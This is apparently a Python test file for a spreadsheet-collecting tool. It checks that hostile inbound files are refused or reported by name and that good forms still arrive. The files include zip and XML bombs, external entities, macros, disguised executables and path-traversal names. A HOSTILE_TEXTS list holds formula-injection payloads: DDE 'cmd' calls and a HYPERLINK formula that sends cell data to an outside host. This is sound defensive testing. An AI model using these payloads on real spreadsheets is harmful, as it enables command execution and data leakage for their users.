"""Harmful and broken mails in `collect`: reported by name, at little cost, without loss to others.

Each case lies beside two good forms and is collected in a process of its own, in at most the 300 MB of the contract.
The contract's 5 seconds are measured by `tests/bench/hostile.py`.
"""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
from collections.abc import Callable
from dataclasses import dataclass
from functools import cache
from pathlib import Path
from xml.sax.saxutils import escape

import pytest

from de06_xl.model.book import Book
from de06_xl.model.responses import ResponseStatus
from de06_xl.workbook.file_grid import FileGrid
from de06_xl.workbook.reading.book import read_book
from tests.support.command_line import content
from tests.support.harmful_forms import (
    SHEET,
    another_units,
    attached_with_tricks,
    bomb_in_a_form,
    bomb_in_a_form_that_lies,
    encrypted,
    external_entity,
    external_link,
    form,
    formula_without_result,
    macros,
    master,
    million_empty_rows,
    million_rows_of_figures,
    million_rows_with_a_format,
    nested_bomb,
    one_far_cell,
    parts,
    text_cell,
    with_cell,
    with_parts,
    xml_bomb,
    zip_bomb,
    zip_bomb_that_lies,
    zipped_with_tricks,
)
from tests.support.portable_names import UNPORTABLE, portable

MEGABYTES = 300
HANG = 120
"""Seconds after which a child is given up: the machine may be busy with other tests."""

CHILD = """
import json, re, sys
from de06_xl.cli.app import de06
from de06_xl.cli.run import run
status = run(de06, sys.argv[1:])
with open("/proc/self/status") as kept:
    peak = int(re.search(r"VmHWM:\\s*(\\d+)", kept.read())[1]) // 1024
print(json.dumps({"status": status, "megabytes": peak}))
"""

GOOD = ("BHXH", "RG")
HOSTILE_TEXTS = (
    '=HYPERLINK("http://x.example/?"&A1,"Bấm vào đây")',
    "=cmd|'/C calc'!A0",
    "+cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "\t=1+1",
)


@dataclass(frozen=True, slots=True)
class Case:
    """A file that comes in by this name, the state that it ends in and a piece of the sentence that says why."""

    name: str
    made: Callable[[], bytes]
    status: ResponseStatus
    reported: str


USED, REFUSED, FAULTY = ResponseStatus.USED, ResponseStatus.REFUSED, ResponseStatus.FAULTY
CASES = (
    Case("bom.zip", zip_bomb, REFUSED, "Lớn hơn 30 MB"),
    Case("bom.xlsx", bomb_in_a_form, REFUSED, "Giải nén ra quá lớn"),
    Case("thuc the.xlsx", xml_bomb, REFUSED, "không an toàn"),
    Case("ngoai.xlsx", external_entity, REFUSED, "không an toàn"),
    Case("lien ket.xlsx", external_link, USED, "liên kết tới tệp khác"),
    Case("macro.xlsm", macros, USED, "có macro; chương trình không chạy macro"),
    Case("noi doi.zip", zip_bomb_that_lies, REFUSED, "Bị hỏng"),
    Case("noi doi.xlsx", bomb_in_a_form_that_lies, REFUSED, "Giải nén ra quá lớn"),
    Case("o xa.xlsx", one_far_cell, REFUSED, "XFD1048576"),
    Case("trieu so.xlsx", million_rows_of_figures, REFUSED, "quá mức an toàn"),
    Case("trieu o.xlsx", million_rows_with_a_format, REFUSED, "quá mức an toàn"),
    Case("trieu hang.xlsx", million_empty_rows, USED, ""),
    Case("khong ket qua.xlsx", formula_without_result, FAULTY, "công thức chưa có kết quả"),
    Case("mat khau.xlsx", encrypted, REFUSED, "đặt mật khẩu"),
    Case("cut.xlsx", lambda: form("PVHCC")[:-2000], REFUSED, "Bị hỏng hoặc tải về thiếu"),
    Case("chuong trinh.xlsx", lambda: b"MZ\x90\0\3\0\0\0" + bytes(500), REFUSED, "Là chương trình"),
    Case("mao danh.eml", another_units, ResponseStatus.UNCONFIRMED, "gửi từ hộp thư của AB"),
)


# Collecting ---------------------------------------------------------------------------------------------


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    """A workbook with two good forms in its inbox."""
    folder = tmp_path / "ngoài" / "sổ"
    inbox = folder / "phieu_nhan"
    inbox.mkdir(parents=True)
    (folder / "So.xlsx").write_bytes(master())
    for unit in GOOD:
        (inbox / f"Phieu_{unit}.xlsx").write_bytes(form(unit))
    return folder


def collected(folder: Path) -> Book:
    """The workbook after a run in a child, which held to the limits and left everything else alone."""
    before = content(folder.parents[1])
    ran = subprocess.run(
        [sys.executable, "-c", CHILD, "collect", folder / "So.xlsx"],
        capture_output=True,
        text=True,
        encoding="utf-8",
        check=True,
        cwd=folder.parent,
        timeout=HANG,
    )
    reported = json.loads(ran.stdout.splitlines()[-1])
    assert "Traceback" not in ran.stderr
    assert reported["status"] in {0, 1}
    assert reported["megabytes"] < MEGABYTES
    after = content(folder.parents[1])
    home = folder.relative_to(folder.parents[1])
    for path in before.keys() - {str(home / "So.xlsx")}:
        assert after[path] == before[path], f"{path} was touched"
    for path in after.keys() - before.keys():
        assert Path(path).parts[2:3] in {("phieu_gui",), ("sao_luu",)}, f"{path} was written"
    assert formulas(folder / "So.xlsx") == formulas_before(), "no formula comes from outside"
    book = read_book(FileGrid(folder / "So.xlsx"), "So.xlsx", submissions=True)
    states = {row.unit: row.status for row in book.received if Path(row.file).name.startswith("Phieu_")}
    assert states == dict.fromkeys(GOOD, USED), "the good forms came in"
    figures = [one for one in book.submissions if one.unit in GOOD and one.value is not None]
    assert {one.unit for one in figures} == set(GOOD)
    return book


def formulas(workbook: Path) -> set[tuple[str, str, str]]:
    """Every formula of a workbook with where it stands."""
    return formulas_in(workbook.read_bytes())


@cache
def formulas_before() -> set[tuple[str, str, str]]:
    return formulas_in(master())


def formulas_in(workbook: bytes) -> set[tuple[str, str, str]]:
    return {
        (name, cell.decode(), formula.decode())
        for name, part in parts(workbook).items()
        if name.startswith("xl/worksheets/sheet")
        for cell, formula in re.findall(rb'<c r="([A-Z]+[0-9]+)"[^>]*>(<f\b[^>]*/>|<f\b.*?</f>)', part, re.DOTALL)
    }


@pytest.mark.few(0, 4)
@pytest.mark.parametrize("case", CASES, ids=lambda case: case.name)
def test_what_means_harm_is_told_by_name_and_the_other_forms_come_in(case: Case, folder: Path) -> None:
    (folder / "phieu_nhan" / case.name).write_bytes(case.made())
    book = collected(folder)
    (row,) = [row for row in book.received if case.name in row.file]
    assert row.status is case.status, row
    assert case.reported in row.reason
    if case.status is not USED:
        assert "hãy " in row.reason or "báo cho người gửi" in row.reason, row.reason


@pytest.mark.thorough
def test_a_bomb_of_zips_in_zips_is_opened_to_a_bound(folder: Path) -> None:
    (folder / "phieu_nhan" / "long nhau.zip").write_bytes(nested_bomb())
    rows = [row for row in collected(folder).received if "long nhau.zip" in row.file]
    assert {row.status for row in rows} == {REFUSED}
    assert 1 < len(rows) < 20
    assert "Giải nén ra hơn 200 MB nên không mở tiếp" in rows[-1].reason


@pytest.mark.thorough
def test_names_that_windows_forbids_or_nobody_can_read_are_shown_plainly_and_never_stored(folder: Path) -> None:
    """Names that Linux takes: from a mail program, another system or a damaged disk."""
    inbox = os.fsencode(folder / "phieu_nhan")
    names = [*UNPORTABLE, b"\xff\xfe hong \xc3.xlsx", b"x" * 250 + b".xlsx"]
    for number, name in enumerate(names):
        with open(inbox + b"/" + name, "wb") as file:  # noqa: PTH123 - no path of text
            file.write(f"%PDF-1.4 {number}".encode())
    with open(inbox + b"/to \xff\n\xe2\x80\xaefile.xlsx", "wb") as file:  # noqa: PTH123 - as above
        file.truncate(200 * 1024**2)
    book = collected(folder)
    rows = [row for row in book.received if row.unit not in GOOD]
    assert len(rows) == len(names) + 1
    assert all(row.file.isprintable() and row.file.startswith("phieu_nhan/") for row in rows), rows
    assert len({row.sha256 for row in rows}) == len(rows)
    stored = [path.name for path in (folder / "phieu_gui").rglob("*.eml")]
    assert len(stored) >= len(names)
    assert all(portable(name) for name in stored), stored


@pytest.mark.thorough
def test_a_file_of_200_mb_is_not_read(folder: Path) -> None:
    with (folder / "phieu_nhan" / "to.xlsx").open("wb") as file:
        file.truncate(200 * 1024**2)
    (row,) = [row for row in collected(folder).received if "to.xlsx" in row.file]
    assert row.status is REFUSED
    assert "Lớn hơn 100 MB" in row.reason


@pytest.mark.thorough
@pytest.mark.few(1)
@pytest.mark.parametrize("stored", [True, False], ids=["results of formulas", "texts"])
def test_formulas_in_text_cells_are_texts_in_the_master(folder: Path, stored: bool) -> None:
    at = text_cell("RG")
    sheets = [parts(form("RG"))[SHEET]] * len(HOSTILE_TEXTS)
    for number, (sheet, text) in enumerate(zip(sheets, HOSTILE_TEXTS, strict=True), 1):
        shown = escape(text, {"\t": "&#9;"})
        inside = (
            f"<f>{escape(HOSTILE_TEXTS[0][1:])}</f><v>{shown}</v>"
            if stored
            else f'<is><t xml:space="preserve">{shown}</t></is>'
        )
        kind = ' t="str"' if stored else ' t="inlineStr"'
        name = f"Phieu_{'RG' if number == 1 else f'x{number}'}.xlsx"
        (folder / "phieu_nhan" / name).write_bytes(with_parts("RG", sheet=with_cell(sheet, at, inside, kind)))
    workbook = folder / "So.xlsx"
    ran = subprocess.run(
        [sys.executable, "-c", CHILD, "collect", workbook], capture_output=True, check=True, timeout=HANG
    )
    assert json.loads(ran.stdout.splitlines()[-1])["megabytes"] < MEGABYTES
    assert formulas(workbook) == formulas_before()
    book = read_book(FileGrid(workbook), workbook.name, submissions=True)
    texts = {
        one.text.strip() for one in book.submissions if one.text and one.unit == "RG" and one.cell.endswith(f"!{at}")
    }
    assert texts == {text.strip() for text in HOSTILE_TEXTS}


@pytest.mark.thorough
@pytest.mark.parametrize("made", [zipped_with_tricks, attached_with_tricks], ids=["zip", "mail"])
def test_a_name_is_never_a_path(made: Callable[[], bytes], folder: Path) -> None:
    (folder / "phieu_nhan" / "duong dan").write_bytes(made())
    rows = [row for row in collected(folder).received if "duong dan" in row.file]
    assert sorted(row.status.value for row in rows) == ["dùng", "đã thay", "đã thay", "đã thay"]
    for row in rows:
        assert row.file.endswith("thoat.xlsx")
        assert not re.search(r"\.\.|\\|:|//|› /", row.file), row.file
